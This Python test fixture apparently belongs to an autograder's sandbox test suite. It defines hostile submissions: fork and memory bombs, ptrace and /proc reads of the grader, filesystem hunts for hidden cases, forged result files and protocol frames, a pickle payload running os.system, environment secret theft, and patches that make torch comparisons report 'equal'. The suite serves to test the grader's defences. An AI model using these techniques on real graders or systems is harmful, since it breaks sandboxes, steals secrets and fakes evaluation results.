"""Hostile submissions, one per attack, each hidden in an otherwise correct solution.

An attack is a piece of code and the place it goes:
- "exercise2.dhprebn": the first lines of that function's body (the solution's own lines follow,
  so an attempt that fails quietly falls through to the right answer and the item passes);
- "exercise2": module level, right after the imports (it costs every item of the file);
- "exercise2:file": the whole file (text or bytes).

An attack that tries to *learn or reach* something (a secret, the network, the grader's files)
raises `RuntimeError("ATTACK SUCCEEDED: ...")` the moment it does, so the item fails and the
message says what leaked; `lost="passed"` then asserts that nothing did. An attack that tries to
*harm* (loops, bombs, crashes) is expected to cost its item with the status given in `lost`.

Every attacked file gets a module-level dict `_T` with what a well-informed attacker would know:
the checkout's path, a port the test listens on, a world-writable folder outside the sandbox, a
secret's name. `layer` names the defence an attack depends on (see test_attacks.LAYERS); where a
platform lacks that layer, the test asserts the result reports it missing instead.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile submission: where its code goes, and what it may cost."""

    name: str
    what: str
    pieces: tuple[tuple[str, str | bytes], ...]  # (target, code), the first is the attack proper
    expect: dict[str, tuple[str, ...]]  # item id or file -> allowed statuses; the rest must pass
    layer: str = ""  # the defence it depends on (test_attacks.LAYERS)
    checks: tuple[str, ...] = ()  # extra evidence (test_attacks.CHECKS)
    signature: str = ""  # new parameters for the attacked function, when it needs others


def _a(
    name: str,
    what: str,
    target: str,
    code: str | bytes,
    lost: str | tuple[str, ...],
    layer: str = "",
    also: tuple[tuple[str, str], ...] = (),
    checks: tuple[str, ...] = (),
    expect: dict[str, str] | None = None,
    signature: str = "",
) -> Attack:
    lost = (lost,) if isinstance(lost, str) else tuple(lost)
    where = target.removesuffix(":file")
    wanted = {k: (v,) for k, v in expect.items()} if expect is not None else {where: lost}
    return Attack(name, what, ((target, code), *also), wanted, layer, tuple(checks), signature)


SUCCEEDED = "ATTACK SUCCEEDED"
WITH_HPREBN = "dhpreact, bngain, bnvar_inv, bnraw, n, hprebn"  # autograd needs the leaf

DENIAL_OF_SERVICE = [
    _a(
        "loop_at_import",
        "an endless loop while the file is imported",
        "exercise2",
        "while True:\n    pass\n",
        "timeout",
    ),
    _a(
        "loop_in_function",
        "an endless loop in one function",
        "exercise2.dhprebn",
        "while True:\n    pass\n",
        "timeout",
    ),
    _a(
        "sleep_ignoring_sigterm",
        "ignores SIGTERM, SIGINT and SIGHUP, then sleeps for days",
        "exercise2.dhprebn",
        """
import signal
import time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
time.sleep(10**6)
""",
        "timeout",
    ),
    _a(
        "memory_bomb_at_once",
        "asks for 64 GiB in one allocation, after trying to lift its limit",
        "exercise2.dhprebn",
        """
import resource
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError):
    pass
hog = bytearray(64 << 30)
""",
        "error",
    ),
    _a(
        "memory_bomb_growing",
        "grows a list of 64 MiB tensors without end",
        "exercise2.dhprebn",
        "hog = []\nwhile True:\n    hog.append(torch.ones(1 << 24))\n",
        "error",
    ),
    _a(
        "huge_returned_tensor",
        "returns 160 MB of float32 (the grader reads at most 4 MiB)",
        "exercise2.dhprebn",
        "return torch.zeros(40_000_000)\n",
        "error",
    ),
    _a(
        "broadcast_view_bomb",
        "returns a 4-byte tensor expanded to look like 4 TB",
        "exercise2.dhprebn",
        "return torch.zeros(1).expand(1 << 40)\n",
        "error",
    ),
    _a(
        "os_exit",
        "ends its process with os._exit(0) mid-call",
        "exercise2.dhprebn",
        "import os\nos._exit(0)\n",
        "error",
    ),
    _a(
        "sys_exit_in_function",
        "raises SystemExit from a function",
        "exercise2.dhprebn",
        "import sys\nsys.exit(0)\n",
        "error",
    ),
    _a(
        "sys_exit_at_import",
        "calls sys.exit() at import",
        "exercise2",
        "import sys\nsys.exit(3)\n",
        "error",
    ),
    _a(
        "segfault",
        "dereferences a null pointer with ctypes (refused: ctypes could undo the autograd ban)",
        "exercise2.dhprebn",
        "import ctypes\nctypes.string_at(0)\n",
        "forbidden",
    ),
    _a(
        "recursion_bomb",
        "recurses without end",
        "exercise2.dhprebn",
        "def down(k):\n    return down(k + 1) + 1\n\ndown(0)\n",
        "error",
    ),
    _a(
        "c_stack_overflow",
        "lifts the recursion limit, then recurses through C until the C stack overflows",
        "exercise2.dhprebn",
        """
import sys
sys.setrecursionlimit(10**8)

def down(k):
    return list(map(down, [k + 1]))

down(0)
""",
        "error",
    ),
    _a(
        "fork_bomb",
        "forks without end",
        "exercise2.dhprebn",
        "import os\nwhile True:\n    os.fork()\n",
        "error",
    ),
    _a(
        "orphan_daemon",
        "double-forks a daemon in its own session that would outlive grading",
        "exercise2.dhprebn",
        """
import os
import subprocess
try:
    subprocess.Popen(["/bin/sleep", _T["daemon_arg"]], start_new_session=True)
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", _T["daemon_arg"]])
    os._exit(0)
""",
        "error",
        checks=("no_daemon",),
    ),
    _a(
        "threads",
        "starts a thread that would keep running",
        "exercise2.dhprebn",
        "import threading\nimport time\nthreading.Thread(target=time.sleep, args=(100,)).start()\n",
        "error",
    ),
    _a(
        "output_flood_in_function",
        "prints 50 MB, then answers correctly",
        "exercise2.dhprebn",
        "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * (1 << 20))\n",
        "passed",
        checks=("output_capped",),
    ),
    _a(
        "output_flood_at_import",
        "writes 40 MB straight to fds 1 and 2 at import",
        "exercise2",
        "import os\nfor _ in range(20):\n    os.write(1, b'y' * (1 << 20))\n"
        "    os.write(2, b'z' * (1 << 20))\n",
        "passed",
        checks=("output_capped",),
    ),
    _a(
        "fd_exhaustion",
        "opens files until none are left",
        "exercise2.dhprebn",
        "import os\nfds = [os.dup(1) for _ in range(100_000)]\n",
        "error",
    ),
    _a(
        "big_file",
        "writes a 100 MB file into its own folder",
        "exercise2.dhprebn",
        "with open('big.bin', 'wb') as f:\n    f.write(b'0' * (100 << 20))\n",
        "error",
    ),
    _a(
        "many_files",
        "fills its folder with 1 MiB files (the folder goes when it ends)",
        "exercise2.dhprebn",
        """
block = b'0' * (1 << 20)
for i in range(200):
    try:
        with open(f'fill{i}.bin', 'wb') as f:
            f.write(block)
    except OSError:
        break
""",
        "passed",
    ),
    _a(
        "close_all_fds",
        "closes every file descriptor, the grader's socket included",
        "exercise2.dhprebn",
        "import os\nos.closerange(0, 1024)\n",
        "error",
    ),
    _a(
        "take_back_the_oom_score",
        "lowers its own OOM score, so that in a container the OOM killer would take the grader "
        "(every student process asks to be taken first: tests/test_isolation.py shows it)",
        "exercise2.dhprebn",
        """
import os
for value in (b'0', b'-1000', b'999'):
    try:
        fd = os.open('/proc/self/oom_score_adj', os.O_WRONLY)
    except OSError:
        break
    try:
        os.write(fd, value)
    except OSError:
        continue
    finally:
        os.close(fd)
    raise RuntimeError(f"ATTACK SUCCEEDED: its OOM score adjustment is now {value.decode()}")
""",
        "passed",
    ),
]

SIGNALS = [
    _a(
        "kill_everything",
        "tries to signal its parent (the zygote), pid 1, and every process it can see or guess",
        "exercise2.dhprebn",
        """
import os
import signal
me = os.getpid()
hit = []
candidates = {os.getppid(), 1}  # not -1: kill(-1, 0) says "done" even when nothing could be
try:
    candidates |= {int(p) for p in os.listdir('/proc') if p.isdigit()}
except OSError:
    pass
candidates |= set(range(2, 400))
for pid in sorted(candidates - {me, 0}):
    try:
        os.kill(pid, 0)
        hit.append(pid)
    except OSError:
        pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
    hit.append('SIGKILL to the zygote')
except OSError:
    pass
if hit:
    raise RuntimeError(f'ATTACK SUCCEEDED: could signal {hit[:20]}')
""",
        "passed",
        layer="signals",
    ),
    _a(
        "read_grader_memory",
        "reads its parent's memory and environment: /proc/<pid>/mem, process_vm_readv, ptrace",
        "exercise2.dhprebn",
        """
import ctypes
import os
got = []
for pid in (os.getppid(), 1):
    for what in ('mem', 'environ', 'maps'):
        try:
            with open(f'/proc/{pid}/{what}', 'rb') as f:
                f.read(64)
            got.append(f'/proc/{pid}/{what}')
        except OSError:
            pass
try:  # the audit hook refuses ctypes (RuntimeError); the kernel layers stand behind it
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(0x4206, os.getppid(), 0, 0) == 0:  # PTRACE_SEIZE: attaches without stopping
        libc.ptrace(17, os.getppid(), 0, 0)  # PTRACE_DETACH
        got.append('ptrace')
    # torch was imported before the fork, so its module object sits at the same address there.
    buf = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 8)
    remote = (ctypes.c_void_p * 2)(id(torch), 8)
    if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) > 0:
        got.append('process_vm_readv')
except RuntimeError:
    pass
if got:
    raise RuntimeError(f'ATTACK SUCCEEDED: {got}')
""",
        "passed",
        layer="signals",
    ),
]

CHEATING = [
    _a(
        "patch_comparisons",
        "patches torch's comparisons to say 'equal', then returns zeros",
        "exercise2.dhprebn",
        """
import torch.testing
yes = lambda *a, **k: True
torch.allclose = torch.Tensor.allclose = torch.equal = torch.isclose = yes
torch.Tensor.__eq__ = lambda a, b: torch.ones((), dtype=torch.bool)
torch.isfinite = lambda t: torch.ones_like(t, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
return torch.zeros_like(bnraw)
""",
        "failed",
    ),
    _a(
        "patch_at_import",
        "patches torch's comparisons and numpy's at import, returns zeros",
        "exercise2",
        """
import numpy
yes = lambda *a, **k: True
torch.allclose = torch.Tensor.allclose = torch.equal = torch.isclose = yes
numpy.allclose = numpy.array_equal = yes
""",
        "passed",
        also=(("exercise2.dhprebn", "return torch.zeros_like(bnraw)\n"),),
        expect={"exercise2.dhprebn": "failed"},
    ),
    _a(
        "lying_tensor_subclass",
        "returns zeros in a tensor subclass whose comparisons all "
        "say 'equal': ==, allclose, isclose, subtraction, abs and max lie for it",
        "exercise2.dhprebn",
        """
LIES = {'eq', '__eq__', 'allclose', 'isclose', 'equal', 'sub', '__sub__', '__rsub__', 'abs',
        'max', 'amax', 'isfinite', 'isnan', 'ne', '__ne__'}

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, '__name__', '')
        if name in LIES:
            return True if name in ('allclose', 'equal') else torch.zeros(())
        return super().__torch_function__(func, types, args, kwargs or {})

return torch.zeros_like(bnraw).as_subclass(Liar)
""",
        "failed",
    ),
    _a(
        "numpy_lies",
        "returns a subclass whose numpy() and tobytes-path lie, data zeros",
        "exercise2.dhprebn",
        """
class Liar(torch.Tensor):
    def numpy(self, *a, **k):
        raise RuntimeError('you shall not read me')

    def contiguous(self, *a, **k):
        return torch.ones_like(torch.Tensor.as_subclass(self, torch.Tensor))

return torch.zeros_like(bnraw).as_subclass(Liar)
""",
        "failed",
    ),
    _a(
        "nan_answer",
        "returns NaNs",
        "exercise2.dhprebn",
        "return torch.full_like(bnraw, float('nan'))\n",
        "failed",
    ),
    _a(
        "pickle_payload",
        "returns objects whose unpickling would write a marker file",
        "exercise2.dhprebn",
        """
import os

class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {_T['marker']}",))

return [Payload(), {'x': Payload()}]
""",
        "failed",
        checks=("no_marker",),
    ),
    _a(
        "forged_result_files",
        "writes result.json, results.json and grades.csv wherever it "
        "might be picked up: its folder's parent, /tmp, a known output folder, the checkout",
        "exercise2.dhprebn",
        """
import json
import os
fake = json.dumps({'score': 100.0, 'max_score': 100.0, 'tests': []})
wrote = []
# A write counts when it lands in the machine's own folder, which a file there proves (a
# sandbox may offer private look-alikes: its own /tmp, empty folders on the way to Python).
real = {_T['canary']: _T['sentinel'], os.path.join(_T['canary'], 'alice'): _T['sentinel'],
        _T['root']: _T['root'] + '/pyproject.toml', '/autograder/results': '/autograder/source'}
for place in ['..', '/tmp', os.path.expanduser('~')] + list(real):
    for name in ('result.json', 'results.json', 'grades.csv', 'summary.json'):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), 'w') as f:
                f.write(fake)
            if place in real and os.path.exists(real[place]):
                wrote.append(os.path.join(place, name))
        except OSError:
            pass
if wrote:
    raise RuntimeError(f'ATTACK SUCCEEDED: wrote {wrote}')
""",
        "passed",
        layer="files",
        checks=("canary_untouched", "host_tmp_untouched"),
    ),
    _a(
        "steal_solution",
        "runs the reference solution from the checkout instead of its own (wrong) code",
        "exercise2.dhprebn",
        """
import runpy
ns = runpy.run_path(_T['root'] + '/solutions/backprop-ninja/exercise2.py')
return ns['dhprebn'](dhpreact, bngain, bnvar_inv, bnraw, n)
""",
        "error",
        layer="files",
    ),
    _a(
        "import_grader",
        "imports the grader and its hidden cases, by name and by path",
        "exercise2.dhprebn",
        """
import runpy
import sys
got = []
sys.path[:0] = [_T['root'], _T['site']]
for attempt in ('grader', 'grader.backprop_ninja.hidden', 'solutions'):
    try:
        __builtins__['__imp' + 'ort__'](attempt)
        got.append(attempt)
    except BaseException:
        pass
for path in (_T['root'] + '/grader/backprop_ninja/hidden.py',
             _T['grader_pkg'] + '/backprop_ninja/hidden.py',
             _T['root'] + '/grader/backprop_ninja/rubric.yaml'):
    try:
        runpy.run_path(path) if path.endswith('.py') else open(path).read()
        got.append(path)
    except BaseException:
        pass
if got:
    raise RuntimeError(f'ATTACK SUCCEEDED: {got}')
""",
        "passed",
        layer="files",
    ),
    _a(
        "read_grader_files",
        "reads the grader's source, hidden cases and solutions by path",
        "exercise2.dhprebn",
        """
got = []
for path in (_T['root'] + '/grader/backprop_ninja/hidden.py',
             _T['grader_pkg'] + '/backprop_ninja/hidden.py',
             _T['root'] + '/solutions/backprop-ninja/exercise1.py',
             _T['root'] + '/grader/backprop_ninja/rubric.yaml',
             _T['inside'] + '/../../pipeline.py'):
    try:
        with open(path) as f:
            got.append((path, f.read(40)))
    except OSError:
        pass
if got:
    raise RuntimeError(f'ATTACK SUCCEEDED: {got}')
""",
        "passed",
        layer="files",
    ),
    _a(
        "hunt_for_hidden_cases",
        "walks the whole filesystem it can see for the hidden cases, "
        "the solutions and the rubric, including through /proc/<pid>/root",
        "exercise2.dhprebn",
        """
import collections
import os
import time
found, end = [], time.monotonic() + 1.5
roots = ['/', f'/proc/{os.getppid()}/root', '/proc/1/root']
wanted = {'hidden.py', 'rubric.yaml', 'solutions'}
queue, seen = collections.deque(roots), 0
while queue and seen < 50_000 and time.monotonic() < end:  # breadth first: shallow files first
    folder = queue.popleft()
    seen += 1
    try:
        entries = list(os.scandir(folder))
    except OSError:
        continue
    for entry in entries:
        path = entry.path
        if entry.name in wanted and ('backprop_ninja' in path or entry.name == 'solutions'):
            try:
                os.listdir(path) if entry.name == 'solutions' else open(path).read(10)
                found.append(path)
            except OSError:
                pass
        if entry.is_dir(follow_symlinks=False) and path not in ('/proc', '/sys', '/dev'):
            queue.append(path)
if found:
    raise RuntimeError(f'ATTACK SUCCEEDED: {found[:5]}')
""",
        "passed",
        layer="files",
    ),
    _a(
        "symlink_escape",
        "links a grader file into its own folder and reads the link",
        "exercise2.dhprebn",
        """
import os
got = []
target = _T['root'] + '/solutions/backprop-ninja/exercise2.py'
for make, name in ((os.symlink, 'soft.py'), (os.link, 'hard.py')):
    try:
        make(target, name)
        with open(name) as f:
            got.append((name, f.read(20)))
    except OSError:
        pass
if got:
    raise RuntimeError(f'ATTACK SUCCEEDED: {got}')
""",
        "passed",
        layer="files",
    ),
    _a(
        "read_environment",
        "looks for the grader's secrets in its environment and every "
        "process's /proc/<pid>/environ and cmdline",
        "exercise2.dhprebn",
        """
import os
secret = _T['secret_value'].encode()
found = [k for k, v in os.environ.items() if secret in v.encode() or k == _T['secret_name']]
pids = ['self', str(os.getppid()), '1']
try:
    pids += [p for p in os.listdir('/proc') if p.isdigit()]
except OSError:
    pass
for pid in pids:
    for what in ('environ', 'cmdline'):
        try:
            with open(f'/proc/{pid}/{what}', 'rb') as f:
                if secret in f.read():
                    found.append(f'/proc/{pid}/{what}')
        except OSError:
            pass
if found:
    raise RuntimeError(f'ATTACK SUCCEEDED: the secret is in {found}')
""",
        "passed",
        checks=("secret_absent",),
    ),
    _a(
        "network",
        "connects to a TCP port and a UDP port the test listens on, a Unix socket "
        "file, an abstract socket, and looks up a host name",
        "exercise2.dhprebn",
        """
import socket
got = []
tries = [
    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', _T['port'])),
    (socket.AF_UNIX, socket.SOCK_STREAM, _T['unix_path']),
    (socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + _T['abstract']),
]
try:  # a datagram "succeeds" even into an empty network: the test checks its arrival instead
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b'stolen', ('127.0.0.1', _T['udp_port']))
except OSError:
    pass
for family, kind, address in tries:
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        s.connect(address)
        s.sendall(b'stolen')
        got.append(address)
    except OSError:
        pass
try:
    socket.getaddrinfo('example.com', 80)
    got.append('dns')
except Exception:
    pass
if got:
    raise RuntimeError(f'ATTACK SUCCEEDED: reached {got}')
""",
        "passed",
        layer="network",
        checks=("nothing_arrived",),
    ),
    _a(
        "write_outside",
        "writes files outside its own folder: a world-writable folder, /tmp, "
        "/dev/shm, the checkout, the sandbox runtime",
        "exercise2.dhprebn",
        """
import os
wrote = []
name = 'escape-' + _T['token']
# A write counts when it lands in the machine's own folder, which a file there proves (a
# sandbox may offer private look-alikes: its own /tmp, empty folders on the way to Python).
real = {_T['canary']: _T['sentinel'], _T['root']: _T['root'] + '/pyproject.toml',
        _T['inside']: _T['inside'] + '/worker.py', '/sandbox': '/sandbox/worker.py'}
for folder in ['/tmp', '/dev/shm', '..', os.path.expanduser('~')] + list(real):
    try:
        with open(os.path.join(folder, name), 'x') as f:
            f.write('out')
        if folder in real and os.path.exists(real[folder]):
            wrote.append(folder)
    except OSError:
        pass
if wrote:
    raise RuntimeError(f'ATTACK SUCCEEDED: wrote into {wrote}')
""",
        "passed",
        layer="files",
        checks=("canary_untouched", "no_escape_files"),
    ),
    _a(
        "create_names_outside",
        "creates empty files, FIFOs and socket nodes in the machine's /tmp and /dev/shm, by "
        "calls the audit hook never sees (mknod, mkfifo, torch's C++ opening with O_CREAT, "
        "binding a socket socketpair made), and moves its own folder there: nothing it makes "
        "may outlive grading (without Landlock they did: a free-files channel between a "
        "submission's processes)",
        "exercise2.dhprebn",
        """
import _socket
import os
import stat
made = []
for folder in ('/tmp', '/dev/shm', _T['canary']):
    base = os.path.join(folder, 'escape-' + _T['token'])
    for kind, make in (
        ('', os.mkfifo),
        ('-node', lambda p: os.mknod(p, stat.S_IFREG | 0o600)),
        ('-socket', lambda p: os.mknod(p, stat.S_IFSOCK | 0o600)),
        # socketpair makes sockets past socket()'s denial and socket.__new__'s audit event
        ('-bound', lambda p: _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_DGRAM)[0].bind(p)),
        ('-saved', lambda p: torch.save(torch.zeros(1), p)),
        ('-mapped', lambda p: torch.from_file(p, shared=True, size=1, dtype=torch.uint8)),
        ('-moved', lambda p: os.rename(os.getcwd(), p)),
    ):
        try:
            make(base + kind)
        except Exception:
            pass
        # Made on the machine, not in a private /tmp: the lab's sentinel is seen beside it.
        if os.path.lexists(base + kind) and os.path.exists(_T['sentinel']):
            made.append(base + kind)
if made:
    raise RuntimeError(f'ATTACK SUCCEEDED: made {made}')
""",
        "passed",
        layer="creation",
        checks=("canary_untouched", "no_escape_files", "nothing_created"),
    ),
    _a(
        "change_files_outside",
        "removes, empties and re-permissions another user's files in a world-writable folder "
        "(a TA's shared reports, say): the calls Landlock leaves open (chmod, chown, utime, "
        "xattrs), and without Landlock every one, as the grading user when not root",
        "exercise2.dhprebn",
        """
import os
v = _T['victim']
notes = os.path.join(v, 'notes.txt')
tries = {
    'remove': lambda: os.remove(notes),
    'rmdir': lambda: os.rmdir(os.path.join(v, 'sub')),
    'rename': lambda: os.rename(notes, notes + '.moved'),
    'chmod': lambda: os.chmod(notes, 0o600),
    'chown': lambda: os.chown(notes, os.getuid(), os.getgid()),
    'utime': lambda: os.utime(notes, (0, 0)),
    'setxattr': lambda: os.setxattr(notes, 'user.ninja', b'x'),
    'truncate': lambda: os.truncate(notes, 0),
    'mapped': lambda: torch.from_file(notes, shared=True, size=4, dtype=torch.uint8).zero_(),
}
done = []
for name, attempt in tries.items():
    try:
        attempt()
        done.append(name)
    except Exception:
        pass
if done:
    raise RuntimeError(f'ATTACK SUCCEEDED: {done}')
""",
        "passed",
        layer="changes",
        checks=("victim_untouched",),
    ),
    _a(
        "tamper_with_runtime",
        "opens the sandbox's own worker and protocol for writing",
        "exercise2.dhprebn",
        """
got = []
for folder in ('/sandbox', _T['inside']):
    for name in ('worker.py', 'protocol.py', 'zygote.py'):
        try:
            open(f'{folder}/{name}', 'r+b').close()
            got.append(f'{folder}/{name}')
        except OSError:
            pass
if got:
    raise RuntimeError(f'ATTACK SUCCEEDED: could rewrite {got}')
""",
        "passed",
        layer="files",
        checks=("runtime_unchanged",),
    ),
    _a(
        "stash_between_processes",
        "exercise1.dh receives autograd's dlogits and leaves it "
        "where exercise2's process might find it; exercise2.dlogits returns it (its own code is "
        "zeros)",
        "exercise2.dlogits",
        """
import glob
import os
import numpy
spots = [f"/tmp/stash-{_T['token']}", f"/dev/shm/stash-{_T['token']}",
         f"{_T['canary']}/stash-{_T['token']}"]
spots += glob.glob('/tmp/*/*/stash') + glob.glob('/tmp/*/stash') + glob.glob('../*/stash')
for spot in spots:
    try:
        data = numpy.fromfile(spot, dtype=numpy.float32)
        return torch.from_numpy(data.copy()).reshape(logits.shape)
    except (OSError, ValueError, RuntimeError):
        pass
return torch.zeros_like(logits)
""",
        "failed",
        layer="exchange",
        expect={"exercise2.dlogits": "failed"},
        also=(
            (
                "exercise1.dh",
                """
import os
raw = dlogits.numpy().tobytes()
for spot in (f"/tmp/stash-{_T['token']}", f"/dev/shm/stash-{_T['token']}",
             f"{_T['canary']}/stash-{_T['token']}", 'stash'):
    try:
        with open(spot, 'wb') as f:
            f.write(raw)
        os.chmod(spot, 0o666)
        os.chmod('.', 0o777)
    except OSError:
        pass
""",
            ),
        ),
    ),
    _a(
        "mutate_inputs",
        "changes its inputs in place (fresh copies every call: nothing else is affected)",
        "exercise1.dprobs",
        """
answer = (1.0 / probs) * dlogprobs
probs.fill_(float('nan'))
dlogprobs.zero_()
return answer
""",
        "passed",
    ),
    _a(
        "autograd_computed_getattr",
        "computes the gradient with autograd reached through getattr with a computed name",
        "exercise2.dhprebn",
        """
x = hprebn.clone().requires_grad_(True)
with torch.enable_grad():
    m = x.mean(0, keepdim=True)
    v = x.var(0, keepdim=True, unbiased=True)
    out = (bngain * (x - m) * (v + 1e-5) ** -0.5 * dhpreact).sum()
    getattr(out, 'back' + 'ward')()
return getattr(x, 'gr' + 'ad')
""",
        "forbidden",
        signature=WITH_HPREBN,
    ),
    _a(
        "autograd_through_dict",
        "computes the gradient with autograd reached through module "
        "__dict__s under names spelled with chr()",
        "exercise2.dhprebn",
        """
spell = lambda *codes: ''.join(map(chr, codes))
engine = torch.__dict__[spell(97, 117, 116, 111, 103, 114, 97, 100)]
run = engine.__dict__[spell(98, 97, 99, 107, 119, 97, 114, 100)]
read = torch._C.TensorBase.__dict__[spell(103, 114, 97, 100)]
x = hprebn.clone().requires_grad_(True)
with torch.enable_grad():
    m = x.mean(0, keepdim=True)
    v = x.var(0, keepdim=True, unbiased=True)
    run([(bngain * (x - m) * (v + 1e-5) ** -0.5 * dhpreact).sum()])
return read.__get__(x)
""",
        "forbidden",
        signature=WITH_HPREBN,
    ),
    _a(
        "read_dot_grad",
        "reads .grad after a backward pass",
        "exercise2.dhprebn",
        """
x = hprebn.clone().requires_grad_(True)
with torch.enable_grad():
    (x * x).sum().backward()
return x.grad
""",
        "forbidden",
        signature=WITH_HPREBN,
    ),
]

PROTOCOL = [
    _a(
        "forged_frame_wrong_id",
        "writes its own 'answer' straight onto the grader's socket",
        "exercise2.dhprebn",
        """
import json
import os
import stat
import struct
fake = json.dumps({'ok': True, 'result': {'scalar': None}, 'blobs': [], 'id': 'guess'}).encode()
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack('>I', len(fake)) + fake)
    except OSError:
        pass
""",
        "error",
    ),
    _a(
        "forged_frame_lying_shape",
        "reads the request's id from the worker's frame and answers "
        "first, with a tensor whose shape claims far more than its bytes; later items of the same "
        "process must not be thrown off by the real answer that follows",
        "exercise1.db2",
        """
import json
import os
import stat
import struct
import sys
frame, request_id = sys._getframe(), None
while frame is not None and request_id is None:
    request_id = (frame.f_locals.get('header') or {}).get('id')
    frame = frame.f_back
meta = {'dtype': 'float32', 'sent_as': 'float32', 'shape': [1 << 20, 1 << 20], 'blob': 0}
fake = json.dumps({'ok': True, 'result': {'tensor': meta}, 'blobs': [4], 'id': request_id})
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack('>I', len(fake)) + fake.encode() + b'\\0\\0\\0\\0')
    except OSError:
        pass
""",
        "error",
    ),
    _a(
        "forged_answer_one_blob_many_tensors",
        "swaps the worker's encoder for one answer: a list whose every entry names the same "
        "blob, which the grader once copied per entry (a red team's 96 entries of 64 MiB: 6 GB)",
        "exercise2.dlogits",
        """
import protocol
honest = protocol.encode
def forged(value, blobs, depth=0):
    protocol.encode = honest
    blobs.append(bytes(4 << 20))
    t = {'tensor': {'dtype': 'float32', 'sent_as': 'float32', 'shape': [1 << 20], 'blob': 0}}
    return {'list': [t] * 64}
protocol.encode = forged
""",
        "error",
    ),
    _a(
        "forged_frame_deep_json",
        "writes a megabyte of nested brackets as an answer header",
        "exercise2.dhprebn",
        """
import os
import stat
import struct
bomb = b'[' * 500_000 + b']' * 500_000
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack('>I', len(bomb)) + bomb)
    except OSError:
        pass
""",
        "error",
    ),
    _a(
        "garbage_on_every_fd",
        "writes random bytes to every open file descriptor",
        "exercise2.dhprebn",
        """
import os
for fd in range(0, 64):
    try:
        os.write(fd, os.urandom(4096))
    except OSError:
        pass
""",
        "error",
    ),
]

FILES = [
    _a(
        "binary_file",
        "a binary file instead of Python",
        "exercise2:file",
        b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8,
        "error",
    ),
    _a("empty_file", "an empty file", "exercise2:file", b"", "missing"),
    _a(
        "non_utf8_file",
        "Python saved as Latin-1 with accented names",
        "exercise2:file",
        "# Dérivées\ndef dlogits(logits, Yb, n):\n    return 'é'\n".encode("latin-1"),
        "error",
    ),
    _a(
        "giant_file",
        "a 9 MB source file (uploads stop at 1 MiB a file; this one is handed to the grader)",
        "exercise2:file",
        ("# padding\n" * 900_000 + "def dlogits(logits, Yb, n):\n    return logits\n"),
        ("error", "missing"),
    ),
]

ATTACKS: list[Attack] = DENIAL_OF_SERVICE + SIGNALS + CHEATING + PROTOCOL + FILES
